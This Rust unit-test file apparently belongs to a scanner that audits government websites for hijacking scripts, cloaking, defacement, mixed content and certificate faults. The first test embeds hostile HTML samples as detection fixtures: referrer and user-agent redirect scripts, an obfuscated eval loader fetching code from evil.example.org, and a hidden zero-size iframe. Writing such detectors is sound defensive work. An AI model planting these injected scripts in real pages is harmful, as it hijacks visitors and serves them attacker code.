//! Unit tests of the security checks, each with the controls that must
//! not be reported.

use super::*;
use crate::finding::{CheckId, Finding, Severity};
use crate::page::{analyse_page, PageAnalysis, PageFacts, PageInput};
use crate::profile::Profile;
use chrono::NaiveDate;
use url::Url;

fn analyse(url: &str, html: &str) -> PageAnalysis {
    let u = Url::parse(url).unwrap();
    analyse_page(
        &PageInput {
            site: "测试县",
            url: &u,
            body: html.as_bytes(),
            content_type: Some("text/html; charset=utf-8"),
            is_home: true,
            truncated: false,
            today: NaiveDate::from_ymd_opt(2026, 12, 2).unwrap(),
        },
        &Profile::national(),
    )
}

fn of(findings: &[Finding], check: CheckId) -> Vec<(String, Severity)> {
    findings
        .iter()
        .filter(|f| f.check == check)
        .map(|f| (f.status.clone(), f.severity))
        .collect()
}

fn page(body: &str) -> String {
    format!("<html><head><title>测试县人民政府</title></head><body><p>首页</p>{body}</body></html>")
}

#[test]
fn hijacking_scripts_loaders_and_hidden_frames() {
    let html = page(
        r#"<script>var r = document.referrer; if (r.indexOf("baidu") > -1 || r.indexOf("sogou") > -1) { window.location.href = "http://www.example-bocai.com/"; }</script>
        <script>if (navigator.userAgent.toLowerCase().indexOf("baiduspider") > -1) { document.location = "http://spam.example.net/"; }</script>
        <script>eval(unescape('%3Cscript%20src%3D%22http%3A//evil.example.org/a.js%22%3E%3C/script%3E'));</script>
        <iframe src="http://evil.example.org/x.html" width="0" height="0"></iframe>"#,
    );
    let a = analyse("http://www.x.gov.cn/", &html);
    assert_eq!(
        of(&a.findings, CheckId::SecurityMaliciousScript),
        vec![
            ("referrer_hijack".to_string(), Severity::Veto),
            ("ua_cloaking".to_string(), Severity::Veto),
            ("obfuscated_loader".to_string(), Severity::Veto),
            ("hidden_frame".to_string(), Severity::Error),
        ]
    );
    let loader = a
        .findings
        .iter()
        .find(|f| f.status == "obfuscated_loader")
        .unwrap();
    assert_eq!(loader.target, "evil.example.org");
}

#[test]
fn analytics_back_buttons_mobile_redirects_and_packed_menus_are_not_hijacks() {
    let html = page(
        r#"<script>var _hmt = _hmt || []; (function() { var hm = document.createElement("script"); hm.src = "https://hm.baidu.com/hm.js?0123456789abcdef"; var s = document.getElementsByTagName("script")[0]; s.parentNode.insertBefore(hm, s); })();</script>
        <script>document.write(unescape("%3Cspan id='cnzz_stat_icon_1'%3E%3C/span%3E%3Cscript src='https://s4.cnzz.com/z_stat.php%3Fid%3D1000' type='text/javascript'%3E%3C/script%3E"));</script>
        <script>function goBack() { if (document.referrer) { window.location.href = document.referrer; } else { window.location.href = "/"; } }</script>
        <script>if (/android|iphone|ipad/i.test(navigator.userAgent)) { window.location.href = "/m/"; }</script>
        <script>eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'var|menu'.split('|'),0,{}))</script>
        <script>var img = new Image(); img.src = "/stat.gif?ref=" + encodeURIComponent(document.referrer) + "&from=baidu";</script>
        <iframe src="https://zfwzgl.www.gov.cn/exposure/jiucuo.html" width="0" height="0"></iframe>
        <iframe src="http://www.other.gov.cn/embed.html" width="0" height="0"></iframe>
        <iframe src="http://video.example.com/player.html" width="640" height="360"></iframe>"#,
    );
    let a = analyse("http://www.x.gov.cn/", &html);
    assert!(
        of(&a.findings, CheckId::SecurityMaliciousScript).is_empty(),
        "{:#?}",
        a.findings
    );
}

#[test]
fn mixed_content_on_https_pages_only() {
    let body = r#"<img src="http://www.x.gov.cn/a.png"><script src="http://cdn.example.com/j.js"></script><link rel="stylesheet" href="http://www.x.gov.cn/s.css"><a href="http://www.y.gov.cn/">兄弟单位</a>"#;
    let a = analyse("https://www.x.gov.cn/", &page(body));
    let mixed: Vec<&Finding> = a
        .findings
        .iter()
        .filter(|f| f.check == CheckId::SecurityMixedContent)
        .collect();
    assert_eq!(mixed.len(), 1, "{:#?}", a.findings);
    assert_eq!(mixed[0].severity, Severity::Info);
    assert!(mixed[0].detail.contains("3个"), "{}", mixed[0].detail);
    let a = analyse("http://www.x.gov.cn/", &page(body));
    assert!(of(&a.findings, CheckId::SecurityMixedContent).is_empty());
    let a = analyse(
        "https://www.x.gov.cn/",
        &page(r#"<a href="http://www.y.gov.cn/">只是链接</a><img src="/a.png">"#),
    );
    assert!(of(&a.findings, CheckId::SecurityMixedContent).is_empty());
}

#[test]
fn content_only_a_spider_sees() {
    let home = Url::parse("http://www.x.gov.cn/").unwrap();
    let visitor = analyse(
        "http://www.x.gov.cn/",
        &page(r#"<a href="/xw/">新闻</a><a href="/zw/">政务公开</a>"#),
    );
    let profile = Profile::national();
    // The same page for both: nothing.
    assert!(cloaking("测试县", &home, &visitor, &home, Some(&visitor), &profile).is_empty());
    let spider = analyse(
        "http://www.x.gov.cn/",
        &page(
            r#"<a href="/xw/">新闻</a><a href="/zw/">政务公开</a><a href="http://www.example-cp.com/">澳门娱乐城 真人娱乐</a>"#,
        ),
    );
    let f = cloaking("测试县", &home, &visitor, &home, Some(&spider), &profile);
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(
        (f[0].status.as_str(), f[0].severity),
        ("cloaking", Severity::Veto)
    );
    assert!(f[0].detail.contains("娱乐城"), "{}", f[0].detail);
    // Sent to another site when asking as a spider.
    let away = Url::parse("http://www.example-cp.com/").unwrap();
    let f = cloaking("测试县", &home, &visitor, &away, None, &profile);
    assert_eq!(f[0].status, "spider_redirect");
    // Moved to another government host (a domain change): not cloaking.
    let moved = Url::parse("http://www.x2.gov.cn/").unwrap();
    assert!(cloaking("测试县", &home, &visitor, &moved, None, &profile).is_empty());
}

fn facts(title: &str, code: Option<&str>) -> PageFacts {
    let mut f = PageFacts {
        title: title.into(),
        ..PageFacts::default()
    };
    let mut footer = (*f.footer).clone();
    footer.site_code = code.map(str::to_string);
    footer.icp = code.map(|_| "浙ICP备12345678号".to_string());
    f.footer = std::sync::Arc::new(footer);
    f
}

#[test]
fn defacement_against_the_previous_run() {
    let p = Profile::national();
    let before = facts("示范县人民政府", Some("3399990001"));
    let d = |now: &PageFacts| defaced("测试县", "http://www.x.gov.cn/", &before, now, &p);
    // A redesign or a new name is not defacement.
    assert!(d(&facts("示范县人民政府门户网站", Some("3399990001"))).is_none());
    assert!(
        d(&facts("欢迎访问", Some("3399990001"))).is_none(),
        "replaced, identifiers kept"
    );
    // Gambling words in the title are.
    let f = d(&facts("澳门博彩 真人娱乐", Some("3399990001"))).unwrap();
    assert_eq!(
        (f.check, f.severity),
        (CheckId::SecurityDefaced, Severity::Veto)
    );
    assert!(f.detail.contains("博彩"), "{}", f.detail);
    // So is a title replaced while the footer's identifiers vanished.
    assert!(d(&facts("Hacked by someone", None)).is_some());
}

#[test]
fn certificates() {
    let p = Profile::national();
    let today = NaiveDate::from_ymd_opt(2026, 12, 2).unwrap();
    let good = CertificateFacts {
        host: "www.x.gov.cn".into(),
        subject: "*.x.gov.cn".into(),
        issuer: "Some CA".into(),
        not_before: NaiveDate::from_ymd_opt(2026, 6, 1).unwrap(),
        not_after: NaiveDate::from_ymd_opt(2027, 6, 1).unwrap(),
        names: vec!["*.x.gov.cn".into(), "x.gov.cn".into()],
        self_signed: false,
    };
    assert!(certificate_findings("s", "https://www.x.gov.cn/", &good, today, &p).is_empty());
    let status = |c: &CertificateFacts| {
        certificate_findings("s", "https://www.x.gov.cn/", c, today, &p)
            .first()
            .map(|f| (f.status.clone(), f.severity))
    };
    let expired = CertificateFacts {
        not_after: NaiveDate::from_ymd_opt(2026, 11, 1).unwrap(),
        ..good.clone()
    };
    assert_eq!(status(&expired), Some(("expired".into(), Severity::Info)));
    let soon = CertificateFacts {
        not_after: NaiveDate::from_ymd_opt(2026, 12, 20).unwrap(),
        ..good.clone()
    };
    assert_eq!(status(&soon).unwrap().0, "expiring");
    let other = CertificateFacts {
        names: vec!["*.y.gov.cn".into()],
        ..good.clone()
    };
    assert_eq!(status(&other).unwrap().0, "wrong_host");
    // A wildcard covers one label only.
    let deep = CertificateFacts {
        host: "a.www.x.gov.cn".into(),
        ..good.clone()
    };
    assert_eq!(status(&deep).unwrap().0, "wrong_host");
    let own = CertificateFacts {
        self_signed: true,
        ..good.clone()
    };
    assert_eq!(status(&own).unwrap().0, "self_signed");
}
